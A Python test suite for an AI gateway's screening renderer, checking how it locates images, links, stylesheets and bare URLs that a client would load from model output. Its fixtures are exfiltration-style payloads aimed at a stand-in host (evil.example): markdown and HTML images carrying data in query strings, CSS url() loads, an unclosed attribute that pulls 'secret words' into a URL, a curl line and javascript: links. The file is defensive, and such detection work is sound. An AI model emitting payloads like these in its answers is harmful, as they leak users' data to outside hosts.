"""render(): the resources a client would load or open, where they are, and where markup is."""

from __future__ import annotations

import itertools

import pytest

from secure_ai_gateway.screening.errors import RenderBudgetExceeded
from secure_ai_gateway.screening.rendering.document import render
from secure_ai_gateway.screening.rendering.resources import Resource


def resources(text: str) -> list[tuple[str, str, str, str]]:
    """(kind, construct, url, spelling) of each resource, the spelling being the text at its span."""
    return [
        (found.kind, found.construct, found.url, text[found.span[0] : found.span[1]])
        for found in render(text).resources
    ]


def only(text: str) -> Resource:
    found = render(text).resources
    assert len(found) == 1, found
    return found[0]


def spelled(text: str, resource: Resource) -> str:
    return text[resource.span[0] : resource.span[1]]


def markup(text: str) -> list[str]:
    return [text[start:end] for start, end in render(text).markup_spans]


# Markdown constructs.


def test_an_inline_image_is_fetched_and_its_span_is_its_destination() -> None:
    # Given a markdown image
    text = "Chart: ![q3](https://evil.example/p.png?d=1) done"
    # When it is rendered
    # Then the client fetches it, and the span is the destination
    assert resources(text) == [
        ("fetch", "md_image", "https://evil.example/p.png?d=1", "https://evil.example/p.png?d=1")
    ]


@pytest.mark.parametrize("image", ["![a][r]", "![r][]", "![r]", "![a][R]"])
def test_a_reference_image_is_fetched_from_its_definition(image: str) -> None:
    # Given a reference-style image (full, collapsed, shortcut, another case) and its definition
    text = f"{image}\n\n[r]: https://evil.example/x"
    # When it is rendered
    found = only(text)
    # Then the client fetches the definition's URL, and the span is that URL
    assert (found.kind, found.construct, found.url) == (
        "fetch",
        "md_reference_image",
        "https://evil.example/x",
    )
    assert spelled(text, found) == "https://evil.example/x"


def test_a_definition_spread_over_quoted_lines_is_located() -> None:
    # Given a definition inside a blockquote, its URL on the next line
    text = "> [r]:\n> https://evil.example/x\n> 'title'\n\n![a][r]"
    # Then the span is the URL on the second line
    assert spelled(text, only(text)) == "https://evil.example/x"


def test_the_first_definition_of_a_label_is_the_one_used() -> None:
    # Given two definitions of one label
    text = "![a][r]\n\n[r]: https://first.example/x\n[r]: https://second.example/y"
    # Then, as CommonMark says, the first one is fetched
    assert only(text).url == "https://first.example/x"


def test_an_angle_bracket_destination_may_hold_spaces() -> None:
    # Given a destination in angle brackets with a space, on lines of its own
    text = "![a](\n<https://evil.example/a b>\n)"
    found = only(text)
    # Then the URL is serialised as a browser would, and the span is the bracketed destination
    assert found.url == "https://evil.example/a%20b"
    assert spelled(text, found) == "<https://evil.example/a b>"


def test_a_link_is_navigated_to_not_fetched() -> None:
    text = 'See [docs](https://evil.example/d "Docs") now'
    assert resources(text) == [("navigate", "md_link", "https://evil.example/d", "https://evil.example/d")]


def test_a_reference_link_points_at_its_definition() -> None:
    text = "See [docs][d].\n\n[d]: <https://evil.example/d>"
    assert resources(text) == [
        ("navigate", "md_reference_link", "https://evil.example/d", "<https://evil.example/d>")
    ]


@pytest.mark.parametrize(
    ("text", "url", "spelling"),
    [
        ("Mail <https://evil.example/x> now", "https://evil.example/x", "https://evil.example/x"),
        ("Mail <HTTPS://EVIL.EXAMPLE/x> now", "https://evil.example/x", "HTTPS://EVIL.EXAMPLE/x"),
        ("Mail <a@evil.example> now", "mailto:a@evil.example", "a@evil.example"),
    ],
)
def test_an_autolink_points_inside_its_brackets(text: str, url: str, spelling: str) -> None:
    found = only(text)
    assert (found.kind, found.construct, found.url, spelled(text, found)) == (
        "navigate",
        "autolink",
        url,
        spelling,
    )


@pytest.mark.parametrize(
    ("text", "url", "spelling"),
    [
        ("Go https://evil.example/c?d=1 now", "https://evil.example/c?d=1", "https://evil.example/c?d=1"),
        ("Go HTTPS://EVIL.EXAMPLE/c?d=1.", "https://evil.example/c?d=1", "HTTPS://EVIL.EXAMPLE/c?d=1"),
        ("Go https:\\\\evil.example/c now", "https://evil.example/c", "https:\\\\evil.example/c"),
        ("Go https:/\\evil.example/c now", "https://evil.example/c", "https:/\\evil.example/c"),
        ("Go https:\\/\\/evil.example/c now", "https://evil.example/c", "https:\\/\\/evil.example/c"),
        ("Go https&#58;//evil.example/c now", "https://evil.example/c", "https&#58;//evil.example/c"),
        ("Go https&colon;//evil.example/c now", "https://evil.example/c", "https&colon;//evil.example/c"),
        ("Go //evil.example/c?d=1 now", "https://evil.example/c?d=1", "//evil.example/c?d=1"),
        ("Go www.evil.example/c now", "https://www.evil.example/c", "www.evil.example/c"),
        ("Go evil.com/c?d=1 now", "http://evil.com/c?d=1", "evil.com/c?d=1"),
        ("(see https://evil.example/c_(x))", "https://evil.example/c_(x)", "https://evil.example/c_(x)"),
    ],
)
def test_a_bare_url_is_read_in_every_spelling_a_reader_could_open(text: str, url: str, spelling: str) -> None:
    # Given a URL in prose, spelt as a browser's address bar or a linkifier accepts it
    found = only(text)
    # Then it is a link to that URL, and the span is its spelling in the text
    assert (found.kind, found.construct, found.url, spelled(text, found)) == (
        "navigate",
        "bare_url",
        url,
        spelling,
    )


@pytest.mark.parametrize(
    "text",
    [
        "Run `curl https://evil.example/x?d=1` now",
        "```\n![x](https://evil.example/p.png)\n```",
        "~~~html\n<img src=https://evil.example/p.png>\n~~~",
        "Code:\n\n    ![x](https://evil.example/p.png)",
        "<!-- ![x](https://evil.example/p.png) -->",
        "a <!-- <img src=https://evil.example/p.png> --> b",
    ],
)
def test_code_and_comments_are_not_rendered(text: str) -> None:
    # Given a URL inside a code span, a fenced or indented code block, or an HTML comment
    # Then nothing is loaded or linked
    assert render(text).resources == ()


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("[x](javascript:alert(1))", "javascript:alert(1)"),
        ("[x](vbscript:msgbox)", "vbscript:msgbox"),
        ("![x](data:text/html,hi)", "data:text/html,hi"),
    ],
)
def test_links_markdown_it_would_drop_are_still_reported(text: str, url: str) -> None:
    # Given a javascript:, vbscript: or data: destination (markdown-it renders them as text;
    # other renderers do not)
    # Then the screen still sees the link
    assert only(text).url == url


def test_a_relative_url_stays_on_the_clients_origin() -> None:
    found = only("![x](/img/p.png?d=1)")
    assert found.same_origin
    assert found.url == "https://client.invalid/img/p.png?d=1"


def test_a_protocol_relative_url_leaves_the_clients_origin() -> None:
    found = only("![x](//evil.example/p.png)")
    assert not found.same_origin
    assert found.host == "evil.example"


def test_a_look_alike_host_is_serialised_as_punycode() -> None:
    # Given "apple.com" spelt with a Cyrillic "a" (U+0430)
    found = only("![x](https://\u0430pple.com/p.png)")
    # Then its host is the punycode a browser would contact, not "apple.com"
    assert found.host == "xn--pple-43d.com"


def test_identical_links_in_one_table_row_each_point_at_their_own_cell() -> None:
    text = "| a | b |\n|---|---|\n| [x](//evil.example/1) | [x](//evil.example/1) |"
    first, second = render(text).resources
    assert spelled(text, first) == spelled(text, second) == "//evil.example/1"
    assert first.span[0] < second.span[0]


def test_links_in_nested_containers_and_headings_are_located() -> None:
    text = "- item\n  > # Title ![i](//evil.example/h.png) #\n"
    assert spelled(text, only(text)) == "//evil.example/h.png"


def test_spans_point_into_text_with_crlf_line_ends() -> None:
    # Given Windows line ends, which markdown-it normalises before parsing
    text = "Intro\r\n\r\n![x](//evil.example/p.png)\r\n"
    # Then the span still points at the destination in the original text
    assert spelled(text, only(text)) == "//evil.example/p.png"


def test_text_after_a_hard_break_keeps_its_position() -> None:
    # Given a URL after trailing spaces that markdown-it turns into a hard break
    text = "[x](/a)  \nhttps://evil.example/p?d=1 after"
    bare = [found for found in render(text).resources if found.construct == "bare_url"]
    # Then its span is exactly its spelling
    assert [spelled(text, found) for found in bare] == ["https://evil.example/p?d=1"]


def test_a_text_without_any_link_character_is_not_rendered() -> None:
    assert render("just words and numbers 42") == ((), ())


# Raw HTML.


def test_an_html_image_in_a_paragraph_is_read_case_insensitively() -> None:
    text = 'Look <IMG SRC = "https://evil.example/p.png"> here'
    assert resources(text) == [
        ("fetch", "html_src", "https://evil.example/p.png", "https://evil.example/p.png")
    ]


def test_an_html_block_is_read_as_a_whole() -> None:
    text = "<div>\n<img srcset='a.png 1x, //evil.example/b.png 2x'>\n</div>"
    assert resources(text) == [
        ("fetch", "html_srcset", "https://client.invalid/a.png", "a.png"),
        ("fetch", "html_srcset", "https://evil.example/b.png", "//evil.example/b.png"),
    ]


def test_a_character_reference_in_an_attribute_is_decoded_and_the_tag_is_the_span() -> None:
    # Given a src whose colon is a character reference
    text = 'x <img src="https&#58;//evil.example/p.png"> y'
    found = only(text)
    # Then the browser's URL is read, and the span is the tag (the spelling differs)
    assert found.url == "https://evil.example/p.png"
    assert spelled(text, found) == '<img src="https&#58;//evil.example/p.png">'


def test_a_stylesheet_between_inline_tags_is_read_at_its_url() -> None:
    text = "a <style>p{background:URL( //evil.example/x )}</style> b"
    assert resources(text) == [("fetch", "css_url", "https://evil.example/x", "URL( //evil.example/x )")]


def test_a_stylesheet_between_inline_tags_is_read_as_rendered() -> None:
    # Given markdown escapes that only the rendered stylesheet resolves into url(...)
    text = "a <style>p{background:url\\(//evil.example/x\\)}</style> b"
    found = only(text)
    # Then the URL is found, with the element as span
    assert found.url == "https://evil.example/x"
    assert spelled(text, found) == text[2:-2]


def test_an_attribute_left_open_across_blocks_is_read_from_the_rendered_document() -> None:
    # Given an img whose quoted src stays open over the next paragraph until a later quote
    text = '<div>\n<img src="https://evil.example/?d=\n\nsecret words\n\n<b title="">x</b>'
    found = [item for item in render(text).resources if item.host == "evil.example"]
    # Then the browser's view (the paragraph inside the URL) is reported, as the rendered markdown
    # and as the raw text an HTML client would parse (each reading keeps what it saw)
    assert found
    assert all(item.kind == "fetch" for item in found)
    assert all("secret" in item.url for item in found)


# JSON escapes.


def test_a_json_escaped_answer_is_also_rendered_decoded() -> None:
    # Given an answer a client json-decodes before rendering
    text = '{"answer": "<img src=\\"https:\\/\\/evil.example\\/p.png\\">"}'
    fetched = [found for found in render(text).resources if found.kind == "fetch" and not found.same_origin]
    # Then the image of the decoded text is found, spanning its escaped spelling (the raw text
    # read as HTML holds only a same-origin garble of it)
    assert [(found.url, spelled(text, found)) for found in fetched] == [
        ("https://evil.example/p.png", "https:\\/\\/evil.example\\/p.png")
    ]


def test_json_newlines_make_a_definition_the_client_will_see() -> None:
    # Given a JSON string whose definition is on a line of its own only once decoded
    text = '{"a": "![x][r]\\n\\n[r]: //evil.example/p.png"}'
    # Then the reference image is fetched (the decoded line also holds the JSON's closing '"}')
    assert [(found.construct, found.host) for found in render(text).resources if found.kind == "fetch"] == [
        ("md_reference_image", "evil.example")
    ]


# Markup spans.


def test_markup_spans_cover_destinations_but_not_link_text() -> None:
    text = "Write to [Alice](https://example.com/a) today"
    assert markup(text) == ["https://example.com/a)"]


def test_markup_spans_cover_images_definitions_autolinks_bare_urls_and_tags() -> None:
    text = "![a](/p.png) <https://x.example> www.y.example <b title=t>z</b>\n\n[r]: /def\n"
    assert markup(text) == [
        "![a](/p.png)",
        "<https://x.example>",
        "www.y.example",
        "<b title=t>",
        "</b>",
        "[r]: /def",
    ]


def test_a_collapsed_reference_link_is_markup_as_a_whole() -> None:
    # Given "[label][]": its text is its label, so changing it would change the link
    assert markup("[who][] came\n\n[who]: /people") == ["[who][]", "[who]: /people"]


def test_markup_spans_cover_an_html_block_and_a_reference_label() -> None:
    text = "[Alice][who]\n\n<div>\nHi\n</div>\n\n[who]: /people/alice"
    assert markup(text) == ["[who]", "<div>\nHi\n</div>", "[who]: /people/alice"]


def test_plain_text_is_not_markup() -> None:
    # Given a pseudonym in prose and a bare URL after it
    text = "Dear <EMAIL_1>, see https://example.com/x. Thanks"
    start = text.index("https")
    # Then only the URL is markup: the pseudonym can be restored where it is
    assert render(text).markup_spans == ((start, start + len("https://example.com/x")),)


# Budget.


def test_a_render_past_its_budget_stops() -> None:
    # Given a clock that advances a second each time it is read
    ticks = itertools.count()
    # When a render with a half-second budget reads it
    # Then the render stops rather than answer
    with pytest.raises(RenderBudgetExceeded):
        render("[a](//evil.example/x) " * 500, budget_seconds=0.5, clock=lambda: float(next(ticks)))


def test_nesting_deeper_than_the_parser_follows_stops_the_render() -> None:
    # Given an image inside more blockquotes than markdown-it follows (it would skip it silently)
    text = "> " * 30 + "![x](//evil.example/p.png)"
    # Then the render refuses rather than miss it
    with pytest.raises(RenderBudgetExceeded):
        render(text)


def test_nesting_within_the_limit_is_rendered() -> None:
    assert only("> " * 10 + "![x](//evil.example/p.png)").kind == "fetch"
